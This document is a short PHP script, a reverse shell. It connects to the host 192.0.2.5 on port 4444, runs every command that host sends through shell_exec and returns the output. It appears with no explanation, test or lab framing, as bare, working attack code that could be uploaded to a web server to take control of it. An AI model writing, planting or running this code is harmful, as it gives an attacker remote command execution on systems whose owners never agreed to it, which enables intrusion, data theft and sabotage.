<?php
$s = stream_socket_client("tcp://192.0.2.5:4444");
while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }
